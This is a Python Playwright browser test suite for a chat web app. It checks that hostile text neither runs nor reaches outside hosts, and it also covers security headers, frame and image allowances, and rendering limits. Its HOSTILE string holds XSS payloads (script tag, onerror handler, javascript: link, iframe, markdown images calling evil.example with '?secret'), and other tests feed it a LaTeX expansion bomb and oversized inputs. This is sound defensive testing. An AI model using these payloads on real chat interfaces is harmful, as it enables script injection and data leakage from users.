"""Text from users and models never runs and never carries anything out, in a real browser."""

import contextlib
import shutil
import threading
from collections.abc import Iterator
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from tests.baking import REPOSITORY, copy_app, install
from tests.browser.chat_page import ChatPage
from tests.browser.conftest import on_a_desktop, reply
from tests.running import running

pytestmark = [pytest.mark.browser, pytest.mark.installs]

HOSTILE = """
<script>document.title = "owned"</script><img src="http://evil.example/a.png?secret" onerror="document.title='owned'">

![a](http://evil.example/b.png?secret) ![c][d] [click](javascript:document.title='owned')

<iframe src="http://evil.example/c"></iframe>

[d]: http://evil.example/d.png?secret

The end.
"""


@contextlib.contextmanager
def serving(folder: Path) -> Iterator[int]:
    """Serve a folder's files on loopback; give the port."""
    with ThreadingHTTPServer(("127.0.0.1", 0), partial(SimpleHTTPRequestHandler, directory=folder)) as files:
        threading.Thread(target=files.serve_forever, daemon=True).start()
        yield files.server_port
        files.shutdown()


@on_a_desktop
def test_the_page_asks_only_the_app(page: Page, port_and_server: tuple[int, Any], server: Any) -> None:
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    chat = ChatPage(page, port_and_server[0])
    chat.say("Hello")
    chat.wait_for_the_end()
    here = f"//127.0.0.1:{port_and_server[0]}/"
    assert [url for url in asked if here not in url and not url.startswith(("data:", "blob:"))] == []
    assert (page.locator("link[rel~=icon]").get_attribute("href") or "").startswith("data:")


@on_a_desktop
def test_hostile_text_is_only_text(chat: ChatPage, server: Any) -> None:
    asked: list[str] = []
    chat.page.on("request", lambda request: asked.append(request.url))
    failed: list[str] = []
    chat.page.on("requestfailed", lambda request: failed.append(f"{request.url} {request.failure}"))
    server.reply = reply(words=(HOSTILE,))
    chat.say(HOSTILE.replace("\n", " "))
    chat.wait_for_the_end()
    expect(chat.answer).to_contain_text("The end.")
    for link in chat.answer.get_by_role("link").all():
        assert not (link.get_attribute("href") or "").startswith("javascript")
    assert chat.page.title() != "owned"
    blocked = [url for url in failed if "evil.example" in url]
    assert [url for url in asked if "evil.example" in url and not any(url in one for one in blocked)] == []
    assert all("csp" in url or "BLOCKED" in url.upper() for url in blocked), blocked


@on_a_desktop
def test_the_page_can_be_shown_in_a_frame_where_the_owner_allows_it(page: Page, server: Any, tmp_path: Path) -> None:
    app = copy_app(install(model_provider="openai"), tmp_path / "app")
    settings = (app / "settings.toml").read_text(encoding="utf-8")
    with running(app, server.environment) as port, serving(tmp_path) as files:
        frame = f'<iframe src="http://127.0.0.1:{port}/?embed=true" width="100%" height="700"></iframe>'
        (tmp_path / "frame.html").write_text(frame, encoding="utf-8")
        page.goto(f"http://localhost:{files}/frame.html")
        embedded = page.frame_locator("iframe")
        embedded.get_by_placeholder("Your message").fill("Hello")
        embedded.get_by_role("button", name="Send message").click()
        expect(embedded.get_by_test_id("stChatMessage").last).to_contain_text("Hello from the model.")
        (app / "settings.toml").write_text(
            settings.replace('frame_hosts = ["*"]', "frame_hosts = []"), encoding="utf-8"
        )
        with page.expect_console_message(lambda message: "frame-ancestors" in message.text):
            page.reload()
        headers = page.request.get(f"http://127.0.0.1:{port}").headers
        assert headers["content-security-policy"] == "img-src 'self' data: blob:; frame-ancestors 'self'"
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["referrer-policy"] == "same-origin"


@on_a_desktop
def test_an_image_is_loaded_from_a_host_that_the_owner_allows(page: Page, server: Any, tmp_path: Path) -> None:
    app = copy_app(install(model_provider="openai"), tmp_path / "app")
    shutil.copy(REPOSITORY / "docs" / "images" / "conversation-phone.png", tmp_path / "picture.png")
    settings = (app / "settings.toml").read_text(encoding="utf-8")
    with running(app, server.environment) as port, serving(tmp_path) as files:
        host = f"127.0.0.1:{files}"
        server.reply = reply(words=(f"![A picture](http://{host}/picture.png)",))
        for allowed in (False, True):
            hosts = f'image_hosts = ["{host}"]' if allowed else "image_hosts = []"
            (app / "settings.toml").write_text(settings.replace("image_hosts = []", hosts), encoding="utf-8")
            chat = ChatPage(page, port)
            chat.say("Draw")
            chat.wait_for_the_end()
            image = chat.answer.locator("img[src^=http]")
            expect(image).to_have_count(1)
            loaded = image.evaluate("image => image.decode().then(() => true, () => false)")
            assert loaded == allowed


@pytest.mark.parametrize(
    "bomb",
    [
        r"$$\def\a#1{#1#1}\a{\a{\a{\a{\a{\a{\a{\a{\a{\a{\a{\a{\a{\a{\a{\a{x}}}}}}}}}}}}}}}}$$",
        "x" * 1_000_000,
        "(" * 20_000,
    ],
    ids=["latex", "one line of a megabyte", "brackets"],
)
@on_a_desktop
def test_a_bomb_does_not_stop_the_page(chat: ChatPage, server: Any, bomb: str) -> None:
    server.reply = reply(words=(bomb,))
    chat.say("Hello")
    chat.wait_for_the_end()
    server.reply = reply()
    chat.say("Still there?")
    expect(chat.answer).to_contain_text("Hello from the model.")


def test_all_that_markdown_has_is_drawn(chat: ChatPage, server: Any) -> None:
    answer = "$$x^2$$\n\n\\[E = mc^2\\]\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nprint(1)\n```\n\nשלום, עולם!"
    server.reply = reply(words=(answer,))
    chat.say("مرحبا!")
    chat.wait_for_the_end()
    expect(chat.answer.locator(".katex")).to_have_count(2)
    for text in (chat.messages.nth(1).get_by_text("مرحبا!"), chat.answer.get_by_text("שלום, עולם!")):
        to_the_right = """element => {
            const range = document.createRange(); range.selectNodeContents(element)
            return element.getBoundingClientRect().right - range.getBoundingClientRect().right
        }"""
        assert abs(text.evaluate(to_the_right)) < 2
    expect(chat.answer.locator("table")).to_be_visible()
    expect(chat.answer.locator("code").first).to_contain_text("print(1)")
    overflow = chat.page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
    assert overflow <= 0


@pytest.mark.parametrize("width", ["desktop"])
def test_the_page_works_by_keyboard(chat: ChatPage) -> None:
    chat.input.focus()
    chat.page.keyboard.type("Hello")
    chat.page.keyboard.press("Enter")
    chat.wait_for_the_end()
    again = chat.button("Try again")
    again.focus()
    chat.page.keyboard.press("Enter")
    expect(chat.messages).to_have_count(3)
    chat.wait_for_the_end()


def test_the_send_button_sends(chat: ChatPage) -> None:
    chat.input.fill("Hello")
    chat.page.get_by_test_id("stChatInputSubmitButton").click()
    expect(chat.answer).to_contain_text("Hello from the model.")
